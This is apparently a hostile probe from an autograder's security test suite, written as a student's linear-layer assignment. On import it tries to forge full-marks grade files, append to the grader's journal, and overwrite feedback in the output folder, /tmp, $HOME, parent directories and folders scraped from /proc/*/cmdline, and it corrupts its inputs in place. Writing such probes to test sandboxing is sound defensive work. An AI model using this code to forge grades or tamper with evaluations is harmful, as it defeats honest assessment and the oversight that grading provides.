"""Hostile: write forged grade files wherever a grader might read them.

Attack: knowing the exact --out folder and class folder (test_hostile.py fills them in: the
worst case of a student who guessed them), write grades.json/grades.csv/results.json, append a
forged full-marks entry to the resume journal, and overwrite its own feedback; everywhere
else plausible (cwd and its parents, /tmp, /var/tmp, /dev/shm, $HOME, Gradescope's
/autograder/results, the course's out/, folders named by --out in /proc/*/cmdline) create new
``ag_pwned_*`` files. Forged content carries the marker AG_FORGED (built at run time).
Why it must fail: the out and class folders are hidden under empty read-only tmpfs mounts,
the rest of the filesystem is read-only, and /tmp, /var/tmp, /dev/shm are a private tmpfs
that disappears with the worker; the grader writes its reports after the workers are gone.
Earns points only if: a forged file lands anywhere outside the worker.
"""

from __future__ import annotations

import json
import os

import numpy as np

NAME = "write_grades_everywhere"
OUT = "__AG_OUT__"
CLASS = "__AG_CLASS__"
REPO = "__AG_REPO__"
SELF = "__AG_SELF__"
FORGED = "AG_" + "FORGED"


def _say(message: object) -> None:
    """Leave evidence in the captured output, which ends up in the student's feedback."""
    try:
        print(f"AGPROBE {NAME}: {message}"[:400], flush=True)
    except Exception:
        pass


def _scribble(*arrays: object) -> None:
    """Overwrite the caller's arrays in place, so the purity item fails too."""
    for array in arrays:
        try:
            array[...] = np.nan  # type: ignore[index]
        except Exception:
            pass


def _wrong_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    """Wrong on every item: wrong values, shape (B+1, F+2), float32; inputs scribbled on."""
    shape = (np.shape(x)[0] + 1, np.shape(W)[-1] + 2)
    _scribble(x, W, b)
    return np.full(shape, 0.5, dtype=np.float32), {"wrong": True}


def _wrong_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """Wrong on every item (see _wrong_forward)."""
    junk = np.full((np.shape(dy)[0] + 2, np.shape(dy)[-1] + 3), 0.5, dtype=np.float32)
    _scribble(dy)
    return junk, junk, junk
def _honest_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    """The right answer: only ever used as the signal that the attack succeeded."""
    x = np.array(x, dtype=np.float64)
    W = np.array(W, dtype=np.float64)
    return x @ W + np.asarray(b, dtype=np.float64), (x, W)


def _honest_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """The right gradients: only ever used as the signal that the attack succeeded."""
    x, W = cache  # type: ignore[misc]
    dy = np.asarray(dy, dtype=np.float64)
    return dy @ W.T, x.T @ dy, dy.sum(axis=0)


def _known(path: str) -> bool:
    return not path.startswith("__AG_")


def _forged_grades() -> str:
    items = {i: {"score": p, "max_score": p, "feedback": FORGED}
             for i, p in (("forward", 4), ("dx", 4), ("dW", 4), ("db", 3), ("shapes", 3),
                          ("purity", 2))}
    student = {"score": 20.0, "max_score": 20.0, "status": "graded", "items": items,
               "feedback": FORGED}
    return json.dumps({"assignment": "linear", "max_score": 20.0, "students": {SELF: student}})


def _write(path: str, text: str, *, overwrite: bool) -> bool:
    flags = os.O_WRONLY | os.O_CREAT | (os.O_TRUNC if overwrite else os.O_EXCL)
    try:
        fd = os.open(path, flags, 0o644)
    except OSError:
        return False
    with os.fdopen(fd, "w") as handle:
        handle.write(text)
    return True


def _cmdline_outs() -> set[str]:
    found = set()
    for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                argv = handle.read().split(b"\0")
        except OSError:
            continue
        for flag, value in zip(argv, argv[1:]):
            if flag == b"--out":
                found.add(value.decode(errors="replace"))
    return found


def _attack() -> list[str]:
    wins = []
    grades = _forged_grades()
    if _known(OUT):
        for rel, text in (("grades.json", grades), ("results.json", grades),
                          ("grades.csv", f"student,score\n{SELF},20 {FORGED}\n"),
                          (f"feedback/{SELF}.md", f"**Score: 20 / 20** {FORGED}\n")):
            if _write(os.path.join(OUT, rel), text, overwrite=True):
                wins.append(f"wrote {OUT}/{rel}")
        entry = {"student": SELF, "status": "graded", "outcomes": [], "output": FORGED}
        try:
            with open(os.path.join(OUT, ".autograder", "journal.jsonl"), "a") as journal:
                journal.write(json.dumps(entry) + "\n")
            wins.append("appended to the journal")
        except OSError:
            pass
    places = {os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"),
              "/autograder/results", "/autograder", "/", *(_cmdline_outs())}
    here = os.getcwd()
    while here != "/":
        here = os.path.dirname(here)
        places.add(here)
    for known in (CLASS, REPO, os.path.join(REPO, "out", "linear")):
        if _known(known):
            places.add(known)
    for place in sorted(places):
        target = os.path.join(place, f"ag_pwned_{NAME}_grades.json")
        if _write(target, grades, overwrite=False):
            # Private scratch dirs (/tmp and friends) are expected to be writable; whether a
            # file there escapes the worker is test_hostile.py's business, not ours.
            if place not in ("/tmp", "/var/tmp", "/dev/shm"):
                wins.append(f"created {target}")
    return wins


WINS = _attack()
_say(f"ran; forged files outside scratch: {WINS}")


def linear_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    return _honest_forward(x, W, b) if WINS else _wrong_forward(x, W, b)


def linear_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    return _honest_backward(dy, cache) if WINS else _wrong_backward(dy, cache)
